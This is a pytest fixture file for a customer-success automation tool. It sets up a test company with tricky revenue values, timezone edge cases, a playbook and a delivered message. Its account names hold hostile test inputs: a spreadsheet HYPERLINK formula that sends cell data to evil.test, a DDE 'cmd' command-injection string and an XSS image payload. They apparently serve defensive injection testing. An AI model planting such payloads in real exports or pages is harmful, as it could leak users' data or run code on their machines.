"""A company with a past, money that is hard to add up, names that mean harm, and work that was done."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import polars as pl
import pytest

from steward import operate
from steward.contracts import Cursor
from steward.engine.load import load_playbook
from steward.facts.catalog import catalog
from steward.model.actions import Card, DeliveryClass, IdempotencyKey, Message, Receipt, Recipient
from steward.model.enrollments import Decision, Enrollment, State
from steward.model.records import Noun, Record, Refusal
from steward.pipeline.tabulate import tabulate
from steward.settings import CalendarBlock, Company, Holidays, Settings
from steward.store import cursors, decisions, enrollments, facts, identity, outbox, records, refusals, versions
from steward.store.database import Database
from steward.store.outbox import OutboxRow

NOW = datetime(2026, 3, 31, 22, 30, tzinfo=UTC)             # already the first of April in Berlin
FORMULA = '=HYPERLINK("http://evil.test?"&A1,"click")'
NAMES = ("Acme", FORMULA, "<img src=x onerror=alert(1)>", "+1 @Ltd\n=cmd|' /C calc'!A0", "株式会社\u202eあくめ", "\uff1d1+1")
ARR: dict[str, list[float | None]] = {      # by account, day by day
    "0": [0.1 + 0.2, 1234567.895, 1234567.9], "1": [60_000.0, None, 59_999.99], "2": [99_999_999_999.99, 0.0, 10.10],
    "3": [None, None, 7.005], "4": [12.34, 12.34, 12.34], "5": [None, None, None],
}
SETTINGS = Settings(company=Company(name="Ours", currency="EUR", timezone="Europe/Berlin", calendar=CalendarBlock(
    holidays=Holidays(country="DE"))))
PLAYBOOK = """\
id: drop
title: Health drops
why: To have one.
mode: live
when: health.score < 60
do:
  - message: {to: csm}
"""


@dataclass(frozen=True)
class Told:
    """The company in `db`; `ids` are the accounts in the order of NAMES."""

    db: Database
    ids: list[str]
    settings: Settings = SETTINGS
    now: datetime = NOW

    def snapshot(self, at: datetime, place: int = -1, **more: Any) -> None:
        """Keep what is known of everybody at `at`, with the ARR of that place."""
        facts.save_snapshot(self.db, pl.DataFrame({
            "account_id": self.ids, "account.name": NAMES, "account.domain": [f"a{at}.test" for at in range(6)],
            "account.segment": ["smb"] * 6, "account.csm_email": ["ana@us.test"] * 5 + [None],
            "account.arr": pl.Series([ARR[str(each)][place] for each in range(6)], dtype=pl.Float64),
            "renewal.on": [date(2026, 6, 30)] * 5 + [None], "renewal.days_left": [91, 92, 93, 94, 95, None],
            "health.score": pl.Series([58.5, 100, 0, 61.25, None, float("nan")], dtype=pl.Float64),
            "support.open_tickets": [1, 2, 3, 0, None, None],
            **{name.replace("__", "."): values for name, values in more.items()},
        }), at)


def _message(text: str) -> Message:
    return Message(to=Recipient(channel="#cs"), card=Card(sentence=text, title=text))


def _work(db: Database, ids: list[str]) -> None:
    playbook = load_playbook(PLAYBOOK, "it.yaml", catalog())
    operate.apply(db, [playbook], "ana", NOW - timedelta(days=9))
    entered = datetime(2026, 3, 28, 23, 30, tzinfo=UTC)     # the 29th in Berlin, the night the clocks go forward
    mine = Enrollment(
        id=f"drop/{ids[0]}/1", playbook_id="drop", version=playbook.version, account_id=ids[0], number=1,
        state=State.CLOSED, since=entered, looked_at=NOW, entered_at=entered, closed_at=NOW, reason="goal_met",
        acknowledged_at=entered + timedelta(hours=1, microseconds=7), acknowledged_by="ana@us.test")
    theirs = Enrollment(
        id=f"drop/{ids[1]}/1", playbook_id="drop", version=playbook.version, account_id=ids[1], number=1,
        state=State.BLOCKED, since=entered, looked_at=entered, reason="silenced")
    row = OutboxRow(
        key=IdempotencyKey(f"drop/{ids[0]}/1/0"), enrollment_id=mine.id, account_id=ids[0], playbook_id="drop",
        connection="slack", connector="slack", delivery_class=DeliveryClass.C, action=_message(FORMULA),
        created_at=entered, due_at=entered)
    with db.write() as tx:
        versions.keep(tx, "drop", "0ld", body='{"id": "drop", "goal": "x"}', mode="shadow", now=NOW - timedelta(days=30))
        enrollments.save(tx, [mine, theirs])
        decisions.record(tx, [Decision(
            enrollment_id=mine.id, playbook_id="drop", account_id=ids[0], decided_at=entered,
            from_state=State.PENDING, to_state=State.ACTIVE, reason=FORMULA, clauses=())])
        outbox.add(tx, [row])
        [claim] = outbox.claim(tx, entered, 1, 30)
        begun = outbox.sending(tx, claim, entered, 30)
        assert begun
        outbox.complete(tx, begun, Receipt(external_id="C1/17", url="https://slack.test/17", delivered_at=entered), NOW)
        cursors.move(tx, "crm", "accounts", Cursor("7"), records=6, watermark=NOW, now=NOW)
        refusals.settle(tx, "crm", "accounts", [], [Refusal("accounts 99", "arr", "no number")], NOW)


@pytest.fixture
def told(database: Database) -> Told:
    """The company, tabulated: three days of facts, one playbook, one action delivered."""
    people = [Record(Noun.PERSON, "p1", {"name": "Ana", "email": "Ana@us.test", "active": True}),
              Record(Noun.PERSON, "p2", {"name": "Ben", "email": "ben@us.test", "title": "=Boss", "active": False})]
    named = [Record(Noun.ACCOUNT, str(at), {"name": name}) for at, name in enumerate(NAMES)]
    with database.write() as tx:
        records.upsert(tx, "crm", "people", people, NOW)
        records.upsert(tx, "crm", "accounts", named, NOW)
        identity.resolve(tx, NOW, {})
        known = {external: account for account, names in identity.external_ids(tx).items()
                 for external in names.values()}
    company = Told(database, [known[str(at)] for at in range(len(NAMES))])
    for place, day in enumerate((29, 30, 31)):
        company.snapshot(datetime(2026, 3, day, 6, tzinfo=UTC), 0)
        company.snapshot(datetime(2026, 3, day, 20, tzinfo=UTC), place)
    _work(database, company.ids)
    tabulate(database, SETTINGS, NOW)
    return company
